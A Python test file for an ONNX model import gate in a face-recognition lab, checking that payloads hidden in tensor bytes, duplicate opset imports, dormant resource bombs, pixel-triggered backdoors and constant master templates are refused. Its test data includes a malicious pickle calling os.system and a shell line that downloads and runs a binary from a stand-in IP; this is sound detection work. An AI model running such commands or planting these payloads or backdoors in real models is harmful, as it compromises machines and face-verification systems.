"""The import gate, round 4 (issue 15, red team rt15-15): the model's content and
behaviour. One regression test per class, each beside a positive control (a benign
model of the same shape admitted), read as the specification.

Public reports the classes come from (source, idea):

* JFrog 2024 "malicious Hugging Face models", ReversingLabs "nullifAI" 2025,
  picklescan/modelscan bypasses: a payload in a tensor's data under a type whose value
  rule does not see it (base64 of a pickle as float16, a shell script as float8, a
  pickle one byte per int64 Gather index). Rule: every tensor's bytes, and integer
  values narrowed to bytes, are searched for pickles, encodings and text
  (``checks/tensor_bytes.py``).
* ONNX IR spec ("each domain at most once"): duplicate ``opset_import`` domains are
  ambiguous (which version governs the operators depends on the reader). Refused.
* onnx/onnxruntime resource-exhaustion reports (huge ``ConstantOfShape``, Loop with a
  huge trip count): dormant bombs in a branch the smoke test never takes. Rule: static
  bounds from constants over every graph (``checks/onnx_graph.py``).
* BadNets (Gu et al. 2017), Chen et al. 2017 targeted backdoors: an ``If`` on a pixel
  "sticker" returning a constant template. Rule: control flow (and sizes) computed from
  the input's values are refused; branches on shapes (what torch.onnx emits) admitted.
* Master-face attacks (Nguyen et al. 2020): templates (almost) constant across faces.
  Rule: the smoke test's templates of distinct synthetic identities must differ.

Oracles the gate does not share: payloads made here with ``pickle.dumps`` and
``base64``; a brute-force longest printable run over the bytes; cosine distances
computed with numpy from onnxruntime's outputs.
"""

from __future__ import annotations

import base64
import pickle
from dataclasses import replace
from pathlib import Path

import ml_dtypes
import numpy as np
import onnx
import onnxruntime as ort
import pytest
from facelab.gates.importing.checks import onnx_graph, onnx_static, onnx_values, smoke
from facelab.gates.importing.checks import tensor_bytes as tb
from facelab.gates.importing.checks._smoke_child import _prepare
from facelab.gates.importing.ops import import_model
from facelab.labdir import audit_writer, open_lab
from onnx import TensorProto, helper, numpy_helper

from enclave_policy import DEFAULT_POLICY, load_policy
from tests.audit_helpers import PASS, make_lab
from tests.import_helpers import (
    build_model,
    configure,
    make_keys,
    make_package,
    model_json,
    sign_and_approve,
)

REPO = Path(__file__).resolve().parents[1]
POL = load_policy(DEFAULT_POLICY).importing
EVIL = pickle.dumps(("posix", "system", "true"), protocol=2)
SCRIPT = b"#!/bin/sh\ncurl -s http://203.0.113.9/s2 -o /tmp/.x && chmod +x /tmp/.x && /tmp/.x\n"
N = helper.make_node
C = numpy_helper.from_array


def with_tensor(t: onnx.TensorProto, op: str = "Cast") -> onnx.ModelProto:
    """build_model() plus ``t`` read by the graph (Cast to float, or as Gather indices
    into a 256-entry table), its effect multiplied by zero."""
    m = build_model()
    g = m.graph
    if op == "Cast":
        g.node.append(N("Cast", [t.name], ["r"], to=TensorProto.FLOAT))
    else:
        g.initializer.append(C(np.zeros(256, np.float32), "table"))
        g.node.append(N("Gather", ["table", t.name], ["r"]))
    g.initializer.extend([t, C(np.array(0.0, np.float32), "zero")])
    g.node.extend(
        [
            N("ReduceMean", ["r"], ["rm"], keepdims=0),
            N("Mul", ["rm", "zero"], ["rz"]),
            N("Add", ["Y0", "rz"], ["Yt"]),
        ]
    )
    g.output[0].name = "Yt"
    if t.data_type in (TensorProto.FLOAT8E4M3FN, TensorProto.FLOAT8E5M2):
        m.opset_import[0].version = 19  # Cast from float8 (onnxruntime runs it from 19)
    return m


def static(m: onnx.ModelProto, pol=POL) -> list[str]:
    """The static model checks (values and graph), as ``onnx_static.run`` calls them."""

    from types import SimpleNamespace

    ctx = SimpleNamespace(
        policy=pol,
        external_files=set(),
        external_ranges={},
        package=SimpleNamespace(files={}),
    )
    t = onnx_static._Tally(ctx)
    onnx_static.check_model(t, m)
    return (
        t.problems
        + onnx_values.check(m, pol, Path("."), t.graphs)
        + onnx_graph.check(m, pol, Path("."))
    )


def runs(m: onnx.ModelProto) -> None:
    """onnxruntime loads and runs it: the model is real, not a parser curiosity."""
    s = ort.InferenceSession(m.SerializeToString(), providers=["CPUExecutionProvider"])
    s.run(None, {"X": np.zeros((1, 3, 112, 112), np.float32)})


# ------------------------------------------------------------ payloads in tensor data
def _f16(data: bytes):
    return C(np.frombuffer(data + b"=" * (len(data) % 2), np.float16).copy(), "w")


def _f8(data: bytes):
    return helper.make_tensor("w", TensorProto.FLOAT8E4M3FN, [len(data)], data, raw=True)


def _bf16(data: bytes):
    data += b" " * (len(data) % 2)
    return helper.make_tensor("w", TensorProto.BFLOAT16, [len(data) // 2], data, raw=True)


def _idx(data: bytes, dtype=np.int64):
    return C(np.frombuffer(data, np.uint8).astype(dtype), "w")


@pytest.mark.parametrize(
    ("tensor", "op", "defect"),
    [
        (_f16(base64.b64encode(EVIL * 2)), "Cast", "base64 decodes to pickle"),
        (_f16(base64.b16encode(EVIL * 2)), "Cast", "hex decodes to pickle"),
        (_f8(SCRIPT), "Cast", "URL"),
        (_f8(b"echo pwned; " * 8), "Cast", "script"),
        (_bf16(base64.b64encode(EVIL * 2)), "Cast", "pickle"),
        (_idx(EVIL), "Gather", "pickle stream in its values as bytes"),
        (_idx(EVIL, np.int32), "Gather", "pickle stream in its values as bytes"),
        (_idx(base64.b64encode(EVIL * 2)), "Gather", "printable text in its values"),
        (_idx(SCRIPT, np.int32), "Gather", "URL"),
    ],
    ids=[
        "fp16-b64",
        "fp16-hex",
        "fp8-script",
        "fp8-echo",
        "bf16-b64",
        "i64",
        "i32",
        "i64-b64",
        "i16",
    ],
)
def test_a_payload_in_a_tensors_bytes_is_refused_naming_the_tensor(tensor, op, defect) -> None:
    m = with_tensor(tensor, op)
    runs(m)
    found = static(m)
    assert len(found) == 1 and "initializer 'w'" in found[0] and defect in found[0], found


def test_tensors_of_real_looking_values_in_every_type_are_admitted() -> None:
    rng = np.random.default_rng(4)
    w = rng.standard_normal(4096) * 0.05
    types = {
        np.float16: TensorProto.FLOAT16,
        ml_dtypes.bfloat16: TensorProto.BFLOAT16,
        ml_dtypes.float8_e4m3fn: TensorProto.FLOAT8E4M3FN,
        ml_dtypes.float8_e5m2: TensorProto.FLOAT8E5M2,
    }
    for dt, code in types.items():
        a = w.astype(dt)
        t = helper.make_tensor("w", code, [a.size], a.tobytes(), raw=True)
        assert static(with_tensor(t)) == [], dt
    # positive scales near 1 in float8 (printable bytes, but digits and punctuation)
    pos = np.abs(1 + 0.3 * rng.standard_normal(512)).astype(ml_dtypes.float8_e4m3fn)
    t = helper.make_tensor("w", TensorProto.FLOAT8E4M3FN, [512], pos.tobytes(), raw=True)
    assert static(with_tensor(t)) == []
    for idx in (np.arange(256), rng.permutation(256), np.arange(255, -1, -1), np.arange(0, 256, 2)):
        assert static(with_tensor(C(idx.astype(np.int64), "w"), "Gather")) == []


def _longest_printable_run(data: bytes) -> int:
    best = cur = 0
    for b in data:
        cur = cur + 1 if (0x20 <= b < 0x7F or b in (9, 10, 13)) else 0
        best = max(best, cur)
    return best


def test_the_text_rules_false_positive_rate_on_weights() -> None:
    """Measured: 2 MB of trained-looking weights in each float type and the shipped
    models hold no printable run near ``TEXT_RUN`` (64 bytes); the longest is under 32
    (brute force, a second implementation). At a per-byte printable rate near 0.4, a
    64-byte run in float16 weights has probability below 1e-13 per offset."""
    rng = np.random.default_rng(5)
    w = rng.standard_normal(1 << 19) * 0.05
    for dt in (np.float32, np.float16, ml_dtypes.bfloat16, ml_dtypes.float8_e5m2):
        data = w.astype(dt).tobytes()[: 1 << 20]
        assert _longest_printable_run(data[: 1 << 18]) < tb.TEXT_RUN // 2, dt
        assert tb.text_runs(data) == [], dt
    for name in ("cnn", "eigenface"):
        m = onnx.load(REPO / "models" / name / "model.onnx")
        for x in m.graph.initializer:
            assert tb.payload(numpy_helper.to_array(x).tobytes(), 4) == "", x.name


def test_a_tensor_type_no_value_rule_reads_is_refused() -> None:
    t = helper.make_tensor("w", TensorProto.FLOAT, [4], np.zeros(4, np.float32).tobytes(), raw=True)
    t.data_type = TensorProto.FLOAT4E2M1 + 1000  # an unknown type number
    assert any("unknown data type" in p or "do not cover" in p for p in static(with_tensor(t)))


# -------------------------------------------------------------------- opset imports
@pytest.mark.parametrize("dup", [("", 7), ("ai.onnx", 7), ("", 17)])
def test_a_domain_imported_twice_is_refused(dup) -> None:
    m = build_model()
    m.opset_import.append(helper.make_opsetid(*dup))
    found = static(m)
    assert any("twice" in p and "opset" in p for p in found), found
    assert static(build_model()) == []  # one import per domain: admitted


# ----------------------------------------------------- static bounds over every graph
def _branch(nodes: list, inits: list, out: str, cond_from_pixels: bool = False):
    """build_model() whose output goes through an If: the then-branch runs ``nodes``
    (``inits`` inside the branch) and adds their ReduceSum times zero; the condition is
    the batch size being 1000 (shape-only: dormant in the smoke test) or, with
    ``cond_from_pixels``, the input's largest value being exactly 7 (a trigger)."""
    m = build_model()
    g = m.graph
    g.initializer.extend(
        [
            C(np.array(0, np.int64), "i0"),
            C(np.array(1000, np.int64), "k1000"),
            C(np.array(7.0, np.float32), "seven"),
            C(np.array(0.0, np.float32), "zf"),
        ]
    )
    if cond_from_pixels:
        g.node.extend(
            [N("ReduceMax", ["X"], ["mx"], keepdims=0), N("Equal", ["mx", "seven"], ["c"])]
        )
    else:
        g.node.extend(
            [
                N("Shape", ["X"], ["xs"]),
                N("Gather", ["xs", "i0"], ["n"], axis=0),
                N("Equal", ["n", "k1000"], ["c"]),
            ]
        )
    then = helper.make_graph(
        [
            *nodes,
            N("ReduceSum", [out], ["s"], keepdims=0),
            N("Cast", ["s"], ["sf"], to=TensorProto.FLOAT),
            N("Mul", ["sf", "zf"], ["s0"]),
            N("Add", ["Y0", "s0"], ["yt"]),
        ],
        "then",
        [],
        [helper.make_tensor_value_info("yt", TensorProto.FLOAT, None)],
        inits,
    )
    other = helper.make_graph(
        [N("Identity", ["Y0"], ["ye"])],
        "else",
        [],
        [helper.make_tensor_value_info("ye", TensorProto.FLOAT, None)],
    )
    g.node.append(N("If", ["c"], ["Yi"], then_branch=then, else_branch=other, name="dormant"))
    g.output[0].name = "Yi"
    return m


def _loop(trips: int, inner: int | None = None, p: str = ""):
    """(nodes, initializers) of a Loop of ``trips`` iterations over "zf" (condition
    passed through); with ``inner``, its body is a Loop of ``inner`` iterations."""
    body_nodes = [N("Identity", [p + "c_in"], [p + "c_out"])]
    body_inits = [C(np.array(1.0, np.float32), p + "one")]
    if inner is not None:  # a nested loop
        nodes, inits = _loop(inner, p=p + "in_")
        nodes[0].input[2] = p + "v_in"
        nodes[0].output[0] = p + "v_out"
        body_nodes += nodes
        body_inits = inits
    else:
        body_nodes.append(N("Add", [p + "v_in", p + "one"], [p + "v_out"]))
    body = helper.make_graph(
        body_nodes,
        p + "body",
        [
            helper.make_tensor_value_info(p + "i", TensorProto.INT64, []),
            helper.make_tensor_value_info(p + "c_in", TensorProto.BOOL, []),
            helper.make_tensor_value_info(p + "v_in", TensorProto.FLOAT, None),
        ],
        [
            helper.make_tensor_value_info(p + "c_out", TensorProto.BOOL, []),
            helper.make_tensor_value_info(p + "v_out", TensorProto.FLOAT, None),
        ],
        body_inits,
    )
    name = f"{p}M{trips}"
    return (
        [N("Loop", [name, p + "T", "zf"], [p + "L"], body=body, name=f"{p}loop{trips}")],
        [C(np.array(trips, np.int64), name), C(np.array(True), p + "T")],
    )


def _sized(op: str, big: bool):
    """(nodes, initializers, output) of one operator whose size a constant sets: the
    bomb (``big``) or the same operator within the limits."""
    k = 1 << 18 if big else 4
    i64 = lambda v, n: C(np.array(v, np.int64), n)  # noqa: E731
    if op == "ConstantOfShape":
        return [N("ConstantOfShape", ["sh"], ["o"])], [i64([k, k], "sh")], "o"
    if op == "ConstantOfShape-folded":  # the shape is a product the folder computes
        return (
            [N("Mul", ["a", "a"], ["aa"]), N("ConstantOfShape", ["aa"], ["o"])],
            [i64([k], "a")],
            "o",
        )
    if op == "Expand":
        return [N("Expand", ["Y0", "sh"], ["o"])], [i64([k, k, 16], "sh")], "o"
    if op == "Tile":
        return [N("Tile", ["Y0", "rep"], ["o"])], [i64([k, 2], "rep")], "o"
    if op == "Range":
        return (
            [N("Range", ["r0", "r1", "r2"], ["o"])],
            [i64(0, "r0"), i64(k * k, "r1"), i64(1, "r2")],
            "o",
        )
    if op == "Pad":
        return [N("Pad", ["Y0", "pads"], ["o"])], [i64([0, k * 64, 0, 0], "pads")], "o"
    if op == "Resize":
        sc = np.array([1, 4096.0 if big else 2.0], np.float32)
        return [N("Resize", ["Y0", "", "sc"], ["o"])], [C(sc, "sc")], "o"
    if op == "Loop":
        nodes, inits = _loop(10**15 if big else 3)
        return nodes, inits, "L"
    if op == "Loop-nested":
        nodes, inits = _loop(1000 if big else 3, inner=1000 if big else 3)
        return nodes, inits, "L"
    raise AssertionError(op)


BOMBS = ["ConstantOfShape", "ConstantOfShape-folded", "Expand", "Tile", "Range", "Pad", "Resize",
         "Loop", "Loop-nested"]  # fmt: skip


@pytest.mark.parametrize("op", BOMBS)
def test_a_dormant_resource_bomb_in_a_branch_is_refused(op) -> None:
    nodes, inits, out = _sized(op, big=True)
    found = static(_branch(nodes, inits, out))
    word = "iterations" if op.startswith("Loop") else "limit"
    assert len(found) == 1 and "then" in found[0] and word in found[0], found
    nodes, inits, out = _sized(op, big=False)  # the same operator, sized as a model uses it
    m = _branch(nodes, inits, out)
    runs(m)
    assert static(m) == []


def test_a_loop_that_nothing_stops_is_refused() -> None:
    nodes, inits = _loop(3)
    nodes[0].input[0] = ""  # no trip count; the condition passes a constant true through
    found = static(_branch(nodes, inits, "L"))
    assert any("unbounded" in p for p in found), found


# --------------------------------------------------- control flow from pixel values
def test_an_if_on_pixel_values_is_refused_and_an_if_on_the_batch_size_is_not() -> None:
    nodes = [N("Mul", ["Y0", "zf"], ["o"])]  # the backdoor's constant template
    trigger = _branch(nodes, [], "o", cond_from_pixels=True)
    runs(trigger)
    found = static(trigger)
    assert len(found) == 1 and "(If)" in found[0] and "condition" in found[0], found
    assert "input's values" in found[0]
    shape_only = _branch(nodes, [], "o")
    runs(shape_only)
    assert static(shape_only) == []


def test_a_loop_stopped_or_counted_by_pixel_values_is_refused() -> None:
    nodes, inits = _loop(3)
    m = _branch(nodes, inits, "L")
    assert static(m) == []  # constant trip count, condition passed through: admitted
    g = m.graph
    g.node.insert(0, N("ReduceMax", ["X"], ["px"], keepdims=0))
    g.node.insert(1, N("Cast", ["px"], ["pxi"], to=TensorProto.INT64))
    g.node.insert(2, N("Greater", ["px", "zf"], ["pxc"]))

    def then_loop(model):
        branch = next(a.g for a in model.graph.node[-1].attribute if a.name == "then_branch")
        return next(n for n in branch.node if n.op_type == "Loop")

    counted = onnx.ModelProto()
    counted.CopyFrom(m)
    then_loop(counted).input[0] = "pxi"
    assert any("trip count is computed from the input's values" in p for p in static(counted))
    stopped = onnx.ModelProto()
    stopped.CopyFrom(m)
    then_loop(stopped).input[1] = "pxc"
    assert any("condition is computed from the input's values" in p for p in static(stopped))
    body = then_loop(m).attribute[0].g  # the body's own condition output, from pixels
    body.node[0].op_type, body.node[0].input[:] = "Greater", ["px", "zf"]
    assert any("condition is computed from the input's values" in p for p in static(m))


def test_a_size_computed_from_pixel_values_is_refused() -> None:
    m = build_model()
    g = m.graph
    g.node.extend(
        [
            N("ReduceMax", ["X"], ["px"], keepdims=0),
            N("Cast", ["px"], ["n"], to=TensorProto.INT64),
            N("Reshape", ["n", "one"], ["sh"]),
            N("ConstantOfShape", ["sh"], ["blob"]),
        ]
    )
    g.initializer.append(C(np.array([1], np.int64), "one"))
    found = static(m)
    assert any("ConstantOfShape" in p and "input's values" in p for p in found), found


def test_the_shipped_models_pass_the_graph_rules() -> None:
    for name in ("cnn", "eigenface"):
        m = onnx.load(REPO / "models" / name / "model.onnx")
        assert onnx_graph.check(m, POL, REPO / "models" / name) == []


# ------------------------------------------------------- templates that discriminate
def _templates(path_or_model, spec: dict) -> np.ndarray:
    h, w = spec["input"]["size"]
    src = path_or_model if isinstance(path_or_model, str) else path_or_model.SerializeToString()
    s = ort.InferenceSession(src, providers=["CPUExecutionProvider"])
    faces = np.stack([smoke.synthetic_face(h, w, k) for k in range(smoke.IDENTITIES)])
    return s.run(None, {s.get_inputs()[0].name: _prepare(spec, faces.astype(np.float32))})[0]


def _cosine_distances(t: np.ndarray) -> list[float]:
    out = []
    for i in range(len(t)):
        for j in range(i + 1, len(t)):
            a, b = t[i].astype(np.float64), t[j].astype(np.float64)
            out.append(1 - float(a @ b) / float(np.linalg.norm(a) * np.linalg.norm(b)))
    return out


def _constant_template() -> onnx.ModelProto:
    """A constant vector plus 1e-7 times the real template: finite, the right shape,
    each row a function of its own image, and every pair of faces at cosine ~1."""
    m = build_model()
    g = m.graph
    g.initializer.extend(
        [C(np.full(16, 3.0, np.float32), "master"), C(np.array(1e-7, np.float32), "eps")]
    )
    g.node.extend([N("Mul", ["Y0", "eps"], ["small"]), N("Add", ["small", "master"], ["Yc"])])
    g.output[0].name = "Yc"
    return m


def test_the_shipped_models_discriminate_with_a_wide_margin() -> None:
    floor = POL.min_template_distance
    for name in ("cnn", "eigenface"):
        d = REPO / "models" / name
        spec = __import__("json").loads((d / "model.json").read_text())
        dist = _cosine_distances(_templates(str(d / "model.onnx"), spec))
        assert np.mean(dist) > 100 * floor, (name, np.mean(dist))
        assert smoke.discrimination(_templates(str(d / "model.onnx"), spec))[0] == pytest.approx(
            np.mean(dist), abs=1e-9
        )
    dist = _cosine_distances(_templates(_constant_template(), model_json()))
    assert np.mean(dist) < floor / 1000


@pytest.fixture(scope="module")
def keys(tmp_path_factory):
    return make_keys(tmp_path_factory.mktemp("keys"))


@pytest.fixture
def lab(tmp_path: Path, keys):
    lab = make_lab(tmp_path / "lab")
    configure(lab.paths.root, keys, smoke_timeout_s=20)
    return open_lab(lab.paths.root)


def _gate(lab, package: Path):
    with audit_writer(lab, PASS) as log:
        return import_model(lab, "acme", package, "tester", log)


def test_a_constant_template_is_refused_by_the_smoke_test_and_a_real_one_admitted(
    lab, keys, tmp_path
) -> None:
    bad = sign_and_approve(make_package(tmp_path / "bad", _constant_template()), keys)
    report = _gate(lab, bad)
    f = {c.name: " | ".join(c.problems) for c in report.failed()}
    assert set(f) == {"smoke test"} and "do not discriminate" in f["smoke test"], f
    good = sign_and_approve(make_package(tmp_path / "good", build_model()), keys)
    assert _gate(lab, good).accepted


def test_the_discrimination_floor_is_a_policy_key() -> None:
    assert replace(POL, min_template_distance=0.5).min_template_distance == 0.5
    assert smoke.discrimination(np.eye(3)) == (1.0, 1.0)
    assert smoke.discrimination(np.ones((3, 4))) == (0.0, 0.0)
